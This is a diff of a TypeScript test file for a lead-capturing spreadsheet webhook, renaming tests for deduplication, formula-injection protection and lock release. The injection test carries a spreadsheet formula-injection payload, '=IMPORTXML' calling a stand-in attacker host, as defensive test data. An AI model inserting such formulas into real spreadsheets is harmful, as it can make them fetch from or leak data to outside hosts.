@@ -71,7 +71,7 @@ const lead = (id: string, more: object = {}): string =>
     ...more,
   });
 
-test('the same lead twice is one row, under the columns of the contract', () => {
+test("writes a lead once, in the contract's columns", () => {
   const sheet = spreadsheet();
   expect(sheet.post(lead('msg_1'))).toEqual({ ok: true, added: true });
   expect(sheet.post(lead('msg_1'))).toEqual({ ok: true, added: false });
@@ -83,7 +83,7 @@ test('the same lead twice is one row, under the columns of the contract', () => 
   expect(first?.[WEBHOOK_COLUMNS.indexOf('leadId')]).toBe(7);
 });
 
-test('no text becomes a formula, whether or not the product made it plain before', () => {
+test('never writes a text as a formula', () => {
   const sheet = spreadsheet();
   sheet.post(lead('msg_1', { name: '=IMPORTXML("https://evil.example")', phone: '+1 401 555 0134' }));
   sheet.post(lead('msg_2', { name: '\'=IMPORTXML("https://evil.example")' }));
@@ -93,7 +93,7 @@ test('no text becomes a formula, whether or not the product made it plain before
   expect(first?.[WEBHOOK_COLUMNS.indexOf('phone')]).toBe('+1 401 555 0134');
 });
 
-test('whatever happens, the next lead is let in', () => {
+test('accepts the next lead after a failure', () => {
   const sheet = spreadsheet();
   expect(() => sheet.post('no JSON')).toThrow('JSON');
   expect(sheet.locks).toEqual({ taken: 1, given: 1 });
